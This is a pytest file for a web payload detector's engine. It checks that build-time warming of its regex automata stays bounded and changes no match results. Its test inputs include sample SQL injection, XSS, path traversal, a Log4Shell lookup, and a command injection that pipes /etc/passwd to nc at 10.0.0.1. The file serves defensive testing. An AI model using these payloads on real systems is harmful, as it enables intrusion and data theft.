"""The body engine's automata warmed at build time on ordinary text (engine_warm): bounded work, the same answers."""
from __future__ import annotations

import pytest

from smartlayer.detectors.payload import engine as engine_module
from smartlayer.detectors.payload import engine_warm
from smartlayer.detectors.payload import signatures as sig_module
from smartlayer.detectors.payload.engine import Engine
from smartlayer.detectors.payload.normalise import _normalise

pytestmark = pytest.mark.skipif(engine_module._FILTER is None, reason="no RE2 prefilter in this build")

LINES = [f"line {n}: def handler(request, value='{n}'): return render(request, \"page.html\", {{'x': {n}}})"
         for n in range(3000)]

TEXTS = [
    "1' or '1'='1' -- ",
    "<script>alert(document.cookie)</script>",
    "../../../../etc/passwd",
    "; cat /etc/passwd | nc 10.0.0.1 4444",
    "${jndi:ldap://x/a}",
    "select name from users where id = 1 union select password from admin",
    "the quick brown fox jumps over the lazy dog " * 40,
]


def _long(texts: list[str], size: int) -> str:
    out, n = [], 0
    while sum(map(len, out)) < size:
        out.append(texts[n % len(texts)] + f" filler {n}")
        n += 1
    return "\n".join(out)


def _counting(monkeypatch: pytest.MonkeyPatch) -> list[tuple[int, bool]]:
    calls: list[tuple[int, bool]] = []
    original = Engine.matches

    def counted(self: Engine, text: str, *, filtered: bool = False) -> list[int]:
        calls.append((len(text), filtered))
        return original(self, text, filtered=filtered)

    monkeypatch.setattr(Engine, "matches", counted)
    monkeypatch.setattr(engine_warm, "warm_lines", lambda limit=0: list(LINES))
    monkeypatch.setattr(sig_module, "_ENGINES", {})
    return calls


def test_a_server_body_engine_is_warmed_at_build_with_bounded_text(monkeypatch: pytest.MonkeyPatch) -> None:
    calls = _counting(monkeypatch)
    monkeypatch.setattr(sig_module, "PREFILTER_LATER", [False])
    sig_module.engine_for(1, "body")
    assert len(calls) == 2 * engine_warm.WARM_TEXTS             # each warm text whole, then its prefix
    assert all(filtered for _, filtered in calls)                # the prefiltered path: what long texts take
    assert sum(size for size, _ in calls) <= engine_warm.WARM_TEXTS * (engine_warm.WARM_CHARS + 2048)


def test_offline_and_short_text_engines_are_not_warmed(monkeypatch: pytest.MonkeyPatch) -> None:
    calls = _counting(monkeypatch)
    monkeypatch.setattr(sig_module, "PREFILTER_LATER", [False])
    for kind in ("path", "query", "header"):
        sig_module.engine_for(1, kind)
    monkeypatch.setattr(sig_module, "PREFILTER_LATER", [True])
    sig_module.engine_for(2, "body")
    assert calls == []


def test_warming_changes_no_answer() -> None:
    """Guard: a warmed engine answers as a cold one built from the same patterns (whole-table set, prefilter,
    located spans), on short and long texts, attacks and prose."""
    base, _ = sig_module.engine_for(1, "body")
    cold = Engine(base.patterns)
    warmed = Engine(base.patterns)
    assert engine_warm.warm(warmed, list(LINES)) == engine_warm.WARM_TEXTS
    texts = [_normalise(text)[0] for text in TEXTS] + [_normalise(_long(TEXTS, size))[0] for size in (3000, 40000)]
    for text in texts:
        for filtered in (False, True):
            found = cold.matches(text, filtered=filtered)
            assert warmed.matches(text, filtered=filtered) == found
            assert [warmed.span(i, text) for i in found] == [cold.span(i, text) for i in found]


def test_warm_lines_are_fixed_and_bounded() -> None:
    first = engine_warm.warm_lines(10_000)
    assert first == engine_warm.warm_lines(10_000)
    assert sum(len(line) + 1 for line in first[:-1]) < 10_000


def test_a_fault_while_warming_leaves_the_engine_usable() -> None:
    class Broken:
        _last = _spans = None

        def matches(self, text: str, *, filtered: bool = False) -> list[int]:
            raise RuntimeError("boom")

    broken = Broken()
    assert engine_warm.warm(broken, list(LINES)) == 0
    assert broken._last == (None, b"")
